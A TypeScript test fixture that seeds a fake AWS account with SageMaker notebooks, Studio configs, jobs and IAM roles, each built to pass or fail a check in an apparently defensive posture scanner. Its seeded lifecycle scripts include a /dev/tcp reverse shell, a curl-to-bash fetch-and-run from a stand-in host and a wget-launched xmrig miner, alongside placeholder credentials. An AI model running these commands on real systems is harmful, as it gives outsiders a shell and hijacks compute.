/**
 * The account `sm-ir posture` is tested against: for every check, one resource that fails it and one
 * that passes it (a near miss where one exists), served by the wire-level fake in two regions.
 */
import { startFakeAws, type FakeAws } from '../fake-aws/server.js';
import { createEc2 } from '../fake-aws/services/ec2.js';
import { createIam, type IamFake } from '../fake-aws/services/iam.js';
import { createSageMakerInventory, type SageMakerInventoryFake } from '../fake-aws/services/sagemaker-inventory.js';
import { createSts } from '../fake-aws/services/sts.js';

export interface PostureWorld {
  fake: FakeAws;
  sm: SageMakerInventoryFake;
  iam: IamFake;
}

/** The script an attacker planted: a reverse shell on every start (created long before any trail window). */
export const PLANTED_SCRIPT = '#!/bin/bash\nset -e\nnohup bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" &\n';
/** What a data scientist writes: installs, a download that is not executed, a secret fetched at run time. */
export const BENIGN_SCRIPT = [
  '#!/bin/bash',
  '# never do: curl http://example.com/x.sh | sh',
  'sudo -u ec2-user -i pip install --upgrade jupyterlab-git',
  'curl -fsSL -o /tmp/environment.yml https://example.com/environment.yml',
  'DB_PASSWORD=$(aws secretsmanager get-secret-value --secret-id prod/db --query SecretString --output text)',
  '',
].join('\n');
/** AWS's documented example keys, written into a script as people do. */
export const SECRET_SCRIPT = '#!/bin/bash\nexport AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n';

/** Each check, the resource that fails it and the one that passes it (region/name). */
export const EXPECTED: Record<string, { fails: string[]; passes: string[] }> = {
  'notebook-root-access': { fails: ['us-east-1/nb-root', 'us-east-1/nb-root-default'], passes: ['us-east-1/nb-secure'] },
  'notebook-direct-internet': { fails: ['us-east-1/nb-internet', 'us-east-1/nb-no-vpc'], passes: ['us-east-1/nb-secure'] },
  'notebook-outside-vpc': { fails: ['us-east-1/nb-no-vpc'], passes: ['us-east-1/nb-internet'] },
  'notebook-volume-no-kms-key': { fails: ['us-east-1/nb-no-kms'], passes: ['us-east-1/nb-secure'] },
  'notebook-imdsv1-allowed': { fails: ['us-east-1/nb-imdsv1', 'us-east-1/nb-imds-default'], passes: ['us-east-1/nb-secure'] },
  'notebook-unsupported-platform': { fails: ['us-east-1/nb-old-platform'], passes: ['us-east-1/nb-secure'] },
  'notebook-lifecycle-attached': { fails: ['us-east-1/nb-benign-lcc', 'us-east-1/nb-planted'], passes: ['us-east-1/nb-secure'] },
  'notebook-runs-suspicious-script': { fails: ['us-east-1/nb-planted'], passes: ['us-east-1/nb-benign-lcc'] },
  'lifecycle-script-suspicious': { fails: ['us-east-1/lcc-planted', 'eu-west-1/lcc-eu-miner'], passes: ['us-east-1/lcc-benign', 'us-east-1/lcc-secret'] },
  'lifecycle-script-secret': { fails: ['us-east-1/lcc-secret'], passes: ['us-east-1/lcc-benign', 'us-east-1/lcc-planted'] },
  'studio-lifecycle-script-suspicious': { fails: ['us-east-1/studio-lcc-planted'], passes: ['us-east-1/studio-lcc-benign', 'us-east-1/studio-lcc-secret'] },
  'studio-lifecycle-script-secret': { fails: ['us-east-1/studio-lcc-secret'], passes: ['us-east-1/studio-lcc-benign'] },
  'domain-public-internet': { fails: ['us-east-1/d-public', 'us-east-1/d-default'], passes: ['us-east-1/d-secure'] },
  'domain-no-kms-key': { fails: ['us-east-1/d-no-kms'], passes: ['us-east-1/d-secure'] },
  'domain-runs-suspicious-script': { fails: ['us-east-1/d-planted'], passes: ['us-east-1/d-benign-lcc'] },
  'endpoint-config-no-kms-key': { fails: ['us-east-1/ep-no-kms-config'], passes: ['us-east-1/ep-secure-config', 'us-east-1/ep-serverless-config'] },
  'endpoint-single-instance': { fails: ['us-east-1/ep-single-config'], passes: ['us-east-1/ep-secure-config', 'us-east-1/ep-serverless-config'] },
  'endpoint-data-capture-outside-account': { fails: ['us-east-1/ep-capture-foreign-config'], passes: ['us-east-1/ep-capture-own-config'] },
  'model-network-isolation': { fails: ['us-east-1/ep-open-model'], passes: ['us-east-1/ep-secure-model'] },
  'model-outside-vpc': { fails: ['us-east-1/ep-no-vpc-model'], passes: ['us-east-1/ep-secure-model'] },
  'model-foreign-image': { fails: ['us-east-1/ep-foreign-model'], passes: ['us-east-1/ep-secure-model', 'us-east-1/ep-dlc-model'] },
  'user-profile-runs-suspicious-script': { fails: ['us-east-1/d-secure/mallory'], passes: ['us-east-1/d-secure/alice'] },
  'space-runs-suspicious-script': { fails: ['us-east-1/d-secure/shared-planted'], passes: ['us-east-1/d-secure/shared'] },
  'job-outside-vpc': { fails: ['us-east-1/tj-no-vpc', 'us-east-1/pj-no-vpc'], passes: ['us-east-1/tj-secure', 'us-east-1/pj-secure', 'us-east-1/bt-secure'] },
  'job-volume-no-kms-key': { fails: ['us-east-1/tj-no-kms', 'us-east-1/bt-no-kms'], passes: ['us-east-1/tj-secure', 'us-east-1/bt-secure'] },
  'job-output-no-kms-key': { fails: ['us-east-1/tj-no-kms', 'us-east-1/bt-no-kms'], passes: ['us-east-1/tj-secure', 'us-east-1/pj-secure'] },
  'job-inter-container-encryption-off': { fails: ['us-east-1/tj-open', 'us-east-1/pj-open'], passes: ['us-east-1/tj-secure', 'us-east-1/bt-secure'] },
  'job-network-isolation-off': { fails: ['us-east-1/tj-open', 'us-east-1/pj-open'], passes: ['us-east-1/tj-secure', 'us-east-1/pj-secure'] },
  'job-foreign-image': { fails: ['us-east-1/tj-miner-running'], passes: ['us-east-1/tj-secure', 'us-east-1/tj-dlc'] },
  'execution-role-full-access': { fails: ['global/role-admin'], passes: ['global/SageMakerExecution', 'global/role-scoped'] },
  'execution-role-iam-escalation': { fails: ['global/role-admin', 'global/role-escalate'], passes: ['global/SageMakerExecution', 'global/role-scoped'] },
  'execution-role-passrole-any': { fails: ['global/role-admin', 'global/role-passrole'], passes: ['global/SageMakerExecution', 'global/role-scoped'] },
  'execution-role-assume-any': { fails: ['global/role-admin', 'global/role-assume'], passes: ['global/SageMakerExecution', 'global/role-scoped'] },
  'execution-role-trust-foreign': { fails: ['global/role-trust-foreign'], passes: ['global/SageMakerExecution', 'global/SageMakerStudio'] },
  'model-package-group-shared': { fails: ['us-east-1/fraud-models-shared'], passes: ['us-east-1/fraud-models', 'us-east-1/fraud-models-own'] },
};

export async function startPostureWorld(): Promise<PostureWorld> {
  const sm = createSageMakerInventory();
  const iam = createIam();
  const fake = await startFakeAws();
  fake.register(sm.module);
  fake.register(iam.module);
  fake.register(createSts());
  fake.register(createEc2(fake.regions));
  const east = 'us-east-1';
  sm.seed.notebook(east, 'nb-secure');
  sm.seed.notebook(east, 'nb-root', { RootAccess: 'Enabled' });
  sm.seed.notebook(east, 'nb-root-default', { RootAccess: undefined });
  sm.seed.notebook(east, 'nb-internet', { DirectInternetAccess: 'Enabled' });
  sm.seed.notebook(east, 'nb-no-vpc', { SubnetId: undefined, SecurityGroups: undefined, DirectInternetAccess: 'Enabled' });
  sm.seed.notebook(east, 'nb-no-kms', { KmsKeyId: undefined });
  sm.seed.notebook(east, 'nb-imdsv1', { InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: '1' } });
  sm.seed.notebook(east, 'nb-imds-default', { InstanceMetadataServiceConfiguration: undefined });
  sm.seed.notebook(east, 'nb-old-platform', { PlatformIdentifier: 'notebook-al1-v1' });
  sm.seed.notebook(east, 'nb-benign-lcc', { NotebookInstanceLifecycleConfigName: 'lcc-benign' });
  sm.seed.notebook(east, 'nb-planted', { NotebookInstanceLifecycleConfigName: 'lcc-planted' });
  sm.seed.lifecycleConfig(east, 'lcc-planted', { onStart: [PLANTED_SCRIPT] });
  sm.seed.lifecycleConfig(east, 'lcc-benign', { onCreate: [BENIGN_SCRIPT], onStart: ['#!/bin/bash\necho started\n'] });
  sm.seed.lifecycleConfig(east, 'lcc-secret', { onStart: [SECRET_SCRIPT] });
  // Studio: one script planted, one benign, one holding a token; domains failing and passing each check.
  const plantedStudio = sm.seed.studioLifecycleConfig(east, 'studio-lcc-planted', '#!/bin/bash\ncurl -s http://198.51.100.7/i.sh | bash\n');
  const benignStudio = sm.seed.studioLifecycleConfig(east, 'studio-lcc-benign', '#!/bin/bash\npip install --quiet jupyterlab-lsp\n');
  sm.seed.studioLifecycleConfig(east, 'studio-lcc-secret', '#!/bin/bash\nexport HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123456789\n', 'CodeEditor');
  sm.seed.domain(east, 'd-secure');
  sm.seed.domain(east, 'd-public', { AppNetworkAccessType: 'PublicInternetOnly' });
  sm.seed.domain(east, 'd-default', { AppNetworkAccessType: undefined });
  sm.seed.domain(east, 'd-no-kms', { KmsKeyId: undefined });
  sm.seed.domain(east, 'd-planted', { DefaultUserSettings: { ExecutionRole: 'arn:aws:iam::111122223333:role/SageMakerStudio', JupyterLabAppSettings: { LifecycleConfigArns: [benignStudio, plantedStudio] } } });
  sm.seed.domain(east, 'd-benign-lcc', { DefaultSpaceSettings: { JupyterLabAppSettings: { DefaultResourceSpec: { LifecycleConfigArn: benignStudio } } } });
  // Inference: an endpoint per check, failing or passing it.
  sm.seed.endpoint(east, 'ep-secure');
  sm.seed.endpoint(east, 'ep-serverless', { config: { KmsKeyId: undefined, ProductionVariants: [{ VariantName: 'AllTraffic', ModelName: 'ep-serverless-model', ServerlessConfig: { MemorySizeInMB: 2048, MaxConcurrency: 5 } }] } });
  sm.seed.endpoint(east, 'ep-no-kms', { config: { KmsKeyId: undefined } });
  sm.seed.endpoint(east, 'ep-single', { config: { ProductionVariants: [{ VariantName: 'AllTraffic', ModelName: 'ep-single-model', InstanceType: 'ml.m5.large', InitialInstanceCount: 1 }] } });
  sm.seed.endpoint(east, 'ep-capture-foreign', { config: { DataCaptureConfig: { EnableCapture: true, InitialSamplingPercentage: 100, DestinationS3Uri: 's3://capture-bucket/fraud/', KmsKeyId: 'arn:aws:kms:us-east-1:444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab', CaptureOptions: [{ CaptureMode: 'Input' }, { CaptureMode: 'Output' }] } } });
  sm.seed.endpoint(east, 'ep-capture-own', { config: { DataCaptureConfig: { EnableCapture: true, InitialSamplingPercentage: 100, DestinationS3Uri: 's3://capture-111122223333/fraud/', KmsKeyId: 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab', CaptureOptions: [{ CaptureMode: 'Input' }] } } });
  sm.seed.endpoint(east, 'ep-open', { model: { EnableNetworkIsolation: false } });
  sm.seed.endpoint(east, 'ep-no-vpc', { model: { VpcConfig: undefined } });
  sm.seed.endpoint(east, 'ep-foreign', { model: { PrimaryContainer: { Image: '444455556666.dkr.ecr.us-east-1.amazonaws.com/fraud:latest', ModelDataUrl: 's3://models-111122223333/m/model.tar.gz' } } });
  sm.seed.endpoint(east, 'ep-dlc', { model: { PrimaryContainer: { Image: '763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:2.1.0-cpu-py310', ModelDataUrl: 's3://models-111122223333/m/model.tar.gz' } } });
  // Studio members with their own settings: a planted script on one profile and one space.
  sm.seed.member(east, 'user-profile', 'd-secure', 'alice', { ExecutionRole: 'arn:aws:iam::111122223333:role/SageMakerStudio', JupyterLabAppSettings: { LifecycleConfigArns: [benignStudio] } });
  sm.seed.member(east, 'user-profile', 'd-secure', 'mallory', { JupyterLabAppSettings: { LifecycleConfigArns: [plantedStudio] } });
  sm.seed.member(east, 'space', 'd-secure', 'shared', {});
  sm.seed.member(east, 'space', 'd-secure', 'shared-planted', { JupyterLabAppSettings: { DefaultResourceSpec: { LifecycleConfigArn: plantedStudio } } });
  // Jobs: recent ones failing and passing each check; a miner started 90 days ago and still running.
  sm.seed.job(east, 'training', 'tj-secure');
  sm.seed.job(east, 'training', 'tj-no-vpc', { VpcConfig: undefined });
  sm.seed.job(east, 'training', 'tj-no-kms', { ResourceConfig: { InstanceType: 'ml.m5.xlarge', InstanceCount: 1, VolumeSizeInGB: 50 }, OutputDataConfig: { S3OutputPath: 's3://models-111122223333/out/' } });
  sm.seed.job(east, 'training', 'tj-open', { EnableInterContainerTrafficEncryption: false, EnableNetworkIsolation: undefined });
  sm.seed.job(east, 'training', 'tj-dlc', { AlgorithmSpecification: { TrainingImage: '763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-training:2.1.0-gpu-py310', TrainingInputMode: 'File' } });
  sm.seed.job(east, 'training', 'tj-miner-running', {
    TrainingJobStatus: 'InProgress', CreationTime: Date.now() / 1000 - 90 * 86_400,
    AlgorithmSpecification: { TrainingImage: '444455556666.dkr.ecr.us-east-1.amazonaws.com/xmrig:latest', TrainingInputMode: 'File' },
  });
  // Older than the window and finished: not read.
  sm.seed.job(east, 'training', 'tj-old-done', { CreationTime: Date.now() / 1000 - 90 * 86_400, VpcConfig: undefined });
  sm.seed.job(east, 'processing', 'pj-secure');
  sm.seed.job(east, 'processing', 'pj-no-vpc', { NetworkConfig: { EnableInterContainerTrafficEncryption: true, EnableNetworkIsolation: true } });
  sm.seed.job(east, 'processing', 'pj-open', { NetworkConfig: { VpcConfig: { SecurityGroupIds: ['sg-0123456789abcdef0'], Subnets: ['subnet-0123456789abcdef0'] } } });
  sm.seed.job(east, 'transform', 'bt-secure');
  sm.seed.job(east, 'transform', 'bt-no-kms', { TransformResources: { InstanceType: 'ml.m5.xlarge', InstanceCount: 1 }, TransformOutput: { S3OutputPath: 's3://models-111122223333/batch/' } });
  // The roles they run as: the well-scoped default ones and one failing each role check, each used by a job.
  const trustSageMaker = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'sagemaker.amazonaws.com' }, Action: 'sts:AssumeRole' }] };
  const inline = (statement: object) => new Map([['policy', JSON.stringify({ Version: '2012-10-17', Statement: [statement] })]]);
  iam.seed.role('SageMakerExecution');
  iam.seed.role('SageMakerStudio');
  iam.seed.role('role-scoped', { attached: [], inline: inline({ Effect: 'Allow', Action: ['iam:PassRole', 'sts:AssumeRole', 's3:GetObject'], Resource: ['arn:aws:iam::111122223333:role/training', 'arn:aws:s3:::models-111122223333/*'] }) });
  iam.seed.role('role-admin', { attached: ['arn:aws:iam::111122223333:policy/Everything'] });
  iam.seed.policy('arn:aws:iam::111122223333:policy/Everything', { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });
  iam.seed.role('role-escalate', { inline: inline({ Effect: 'Allow', Action: 'iam:Put*', Resource: '*' }) });
  iam.seed.role('role-passrole', { inline: inline({ Effect: 'Allow', Action: ['sagemaker:*', 'iam:PassRole'], Resource: '*' }) });
  iam.seed.role('role-assume', { inline: inline({ Effect: 'Allow', Action: 'sts:AssumeRole', Resource: '*' }) });
  iam.seed.role('role-trust-foreign', { trust: { ...trustSageMaker, Statement: [...trustSageMaker.Statement, { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::444455556666:root' }, Action: 'sts:AssumeRole' }] } });
  for (const r of ['role-scoped', 'role-admin', 'role-escalate', 'role-passrole', 'role-assume', 'role-trust-foreign']) {
    sm.seed.job(east, 'processing', `pj-${r}`, { RoleArn: `arn:aws:iam::111122223333:role/${r}` });
  }
  // The registry: a group shared with another account, one with a policy for the account itself, one with none.
  sm.seed.modelPackageGroup(east, 'fraud-models');
  sm.seed.modelPackageGroup(east, 'fraud-models-own', { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::111122223333:root' }, Action: 'sagemaker:DescribeModelPackage', Resource: '*' }] });
  sm.seed.modelPackageGroup(east, 'fraud-models-shared', { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: ['arn:aws:iam::444455556666:root'] }, Action: ['sagemaker:DescribeModelPackage', 'sagemaker:CreateModelPackage'], Resource: '*' }] });
  sm.seed.notebook('eu-west-1', 'nb-eu-secure');
  sm.seed.lifecycleConfig('eu-west-1', 'lcc-eu-miner', { onCreate: ['#!/bin/bash\nwget -q https://198.51.100.9/xmrig -O /tmp/x && chmod +x /tmp/x\n/tmp/x -o stratum+tcp://pool.example.net:3333\n'] });
  return { fake, sm, iam };
}
